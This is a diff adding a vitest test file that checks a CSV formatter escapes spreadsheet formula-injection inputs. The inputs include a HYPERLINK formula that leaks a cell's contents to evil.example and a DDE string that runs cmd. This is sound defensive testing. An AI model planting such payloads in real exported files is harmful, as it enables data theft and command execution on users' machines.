@@ -1,0 +1,44 @@
+import { expect, it } from 'vitest';
+import type { AnswerRow } from '../../src/terminal/answer.ts';
+import { formatCsv } from '../../src/terminal/format.ts';
+
+const row: AnswerRow = {
+  party: 'Ruritania',
+  speaker: undefined,
+  speakerAsWritten: 'the chancellery',
+  said: { from: '2031-05-06', to: '2031-05-06', precision: 'DAY', basis: 'STATED' },
+  mode: 'INDIRECT',
+  text: 'widgets are safe',
+  terms: ['widgets'],
+  outlet: 'The Strelsau Post',
+  headline: undefined,
+  url: 'https://strelsau.example/1',
+  published: new Date('2031-05-06T08:00:00Z'),
+};
+const csv = (text: string) => formatCsv({ topics: ['Widgets'], rows: [{ ...row, text }], totalCount: 1 });
+
+it.each([
+  '=HYPERLINK("https://evil.example/?"&A1;"widgets")',
+  "+1+cmd|'/C calc'!A0",
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u00A0=1+1',
+  '"=1+1"',
+  "'=1+1",
+  '＝1+1',
+])('writes no cell that a spreadsheet runs: %j', (text) => {
+  expect(csv(text)).toContain(`'${text.replaceAll('"', '""')}`);
+});
+
+it('leaves numbers, dates and words as they are', () => {
+  for (const text of ['-5', '+3.5', '1,000', '-12%', '2031-05-06', 'a-b', '“We = you”', '– so he said']) {
+    const [, line] = csv(text).split('\n');
+    expect(line?.replaceAll('"', '')).toBe(
+      `Ruritania,,the chancellery,2031-05-06,2031-05-06,DAY,STATED,INDIRECT,${text},widgets,The Strelsau Post,,https://strelsau.example/1,2031-05-06T08:00:00.000Z`,
+    );
+  }
+});
